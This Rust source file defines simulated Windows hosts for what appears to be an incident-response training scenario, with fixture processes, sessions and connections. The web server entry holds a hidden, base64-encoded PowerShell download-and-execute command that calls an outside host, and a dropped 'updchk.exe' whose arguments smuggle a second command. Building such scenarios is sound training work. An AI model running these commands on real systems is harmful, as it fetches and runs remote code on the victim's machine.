//! The Windows servers of the story.

use super::machine::{
    Connection, ESTABLISHED, INTERACTIVE, LISTEN, Machine, Process, REMOTE_INTERACTIVE, SERVICE_LOGON,
    Session,
};
use crate::story;

/// The server of this name, which must be one of [`story::WINDOWS_HOSTS`].
pub(crate) fn machine(host: &str) -> &'static Machine {
    match host {
        story::SOURCE_HOST => &WEB,
        "srv-db-01.acme.example" => &DATABASE,
        _ => &WORKSTATION,
    }
}

const DATABASE_IP: &str = "10.20.30.52";
const BOOT: &str = "2026-11-02T02:14:09.118204Z";

const fn process(id: u64, parent: u64, name: &'static str) -> Process {
    Process { id, parent, name, path: None, command: None, session: 0, started: BOOT }
}

const SVCHOST: Process = Process {
    path: Some(r"C:\Windows\System32\svchost.exe"),
    command: Some(r"C:\Windows\System32\svchost.exe -k NetworkService -p"),
    ..process(1184, 720, "svchost.exe")
};

const NETWORK_SERVICE: Session = Session {
    id: "996",
    kind: SERVICE_LOGON,
    package: "Negotiate",
    started: "2026-11-02T02:14:10.002113Z",
    domain: "NT AUTHORITY",
    user: "NETWORK SERVICE",
};

static WEB: Machine = Machine {
    name: "SRV-WEB-01",
    system: "Microsoft Windows Server 2022 Standard",
    build: "20348",
    domain_role: 3,
    memory: 17_179_332_608,
    addresses: [story::SOURCE_IP, "fe80::5c1d:8a0e:77b2:41"],
    mac: "00:50:56:A4:1E:41",
    user: None,
    processes: &[
        process(0, 0, "System Idle Process"),
        process(4, 0, "System"),
        process(720, 612, "services.exe"),
        process(748, 612, "lsass.exe"),
        SVCHOST,
        Process {
            path: Some(r"C:\Windows\System32\inetsrv\w3wp.exe"),
            command: Some(
                r#"c:\windows\system32\inetsrv\w3wp.exe -ap "AcmePortal" -v "v4.0" -l "webengine4.dll""#,
            ),
            started: "2026-11-02T02:15:44.770019Z",
            ..process(3312, 1184, "w3wp.exe")
        },
        Process {
            path: Some(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
            command: Some(
                "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHUAcABkAGEAdABlAHMALgBjAGQAbgAtAG0AZQB0AHIAaQBjAHMALgBjAG8AbQAvAGMAKQA=",
            ),
            started: "2026-11-20T08:41:52.390117Z",
            ..process(4820, 3312, "powershell.exe")
        },
        Process {
            path: Some(r"C:\ProgramData\updchk.exe"),
            command: Some(r#""C:\ProgramData\updchk.exe" --interval 300 --profile <default> & run"#),
            started: "2026-11-20T08:42:03.907331Z",
            ..process(6120, 4820, "updchk.exe")
        },
        Process {
            path: Some(r"C:\Windows\explorer.exe"),
            command: Some(r"C:\Windows\Explorer.EXE"),
            session: 2,
            started: "2026-11-20T07:58:20.640008Z",
            ..process(5544, 5520, "explorer.exe")
        },
    ],
    sessions: &[
        NETWORK_SERVICE,
        Session {
            id: "271845",
            kind: SERVICE_LOGON,
            package: "Kerberos",
            started: "2026-11-02T02:15:44.650012Z",
            domain: "ACME",
            user: "svc-portal",
        },
        Session {
            id: "48110233",
            kind: REMOTE_INTERACTIVE,
            package: "Kerberos",
            started: "2026-11-20T07:58:18.201554Z",
            domain: "ACME",
            user: "m.keller",
        },
    ],
    connections: &[
        Connection {
            local: ("0.0.0.0", 443),
            remote: ("0.0.0.0", 0),
            state: LISTEN,
            process: 4,
            created: BOOT,
        },
        Connection {
            local: ("0.0.0.0", 5986),
            remote: ("0.0.0.0", 0),
            state: LISTEN,
            process: 4,
            created: BOOT,
        },
        Connection {
            local: (story::SOURCE_IP, 52144),
            remote: (story::DESTINATION_IP, 443),
            state: ESTABLISHED,
            process: 6120,
            created: "2026-11-20T08:42:04.511800Z",
        },
        Connection {
            local: (story::SOURCE_IP, 51020),
            remote: (DATABASE_IP, 1433),
            state: ESTABLISHED,
            process: 3312,
            created: "2026-11-20T08:30:11.100430Z",
        },
    ],
};

static DATABASE: Machine = Machine {
    name: "SRV-DB-01",
    system: "Microsoft Windows Server 2022 Standard",
    build: "20348",
    domain_role: 3,
    memory: 68_718_952_448,
    addresses: [DATABASE_IP, "fe80::91e4:2b6f:c03a:52"],
    mac: "00:50:56:A4:1E:52",
    user: None,
    processes: &[
        process(0, 0, "System Idle Process"),
        process(4, 0, "System"),
        process(716, 608, "services.exe"),
        SVCHOST,
        Process {
            path: Some(r"C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe"),
            command: Some(
                r#""C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe" -sMSSQLSERVER"#,
            ),
            ..process(2904, 716, "sqlservr.exe")
        },
    ],
    sessions: &[NETWORK_SERVICE],
    connections: &[Connection {
        local: (DATABASE_IP, 1433),
        remote: (story::SOURCE_IP, 51020),
        state: ESTABLISHED,
        process: 2904,
        created: "2026-11-20T08:30:11.100871Z",
    }],
};

static WORKSTATION: Machine = Machine {
    name: "WKS-0142",
    system: "Microsoft Windows 11 Enterprise",
    build: "22631",
    domain_role: 1,
    memory: 34_359_197_696,
    addresses: ["10.20.40.142", "fe80::d02b:64c9:1f5e:142"],
    mac: "00:50:56:A4:2F:8E",
    user: Some(r"ACME\j.osei"),
    processes: &[
        process(0, 0, "System Idle Process"),
        process(4, 0, "System"),
        SVCHOST,
        Process {
            path: Some(r"C:\Windows\explorer.exe"),
            command: Some(r"C:\Windows\Explorer.EXE"),
            session: 1,
            started: "2026-11-20T06:51:00.119005Z",
            ..process(7012, 6980, "explorer.exe")
        },
    ],
    sessions: &[
        NETWORK_SERVICE,
        Session {
            id: "391204",
            kind: INTERACTIVE,
            package: "Kerberos",
            started: "2026-11-20T06:50:57.870441Z",
            domain: "ACME",
            user: "j.osei",
        },
    ],
    connections: &[],
};
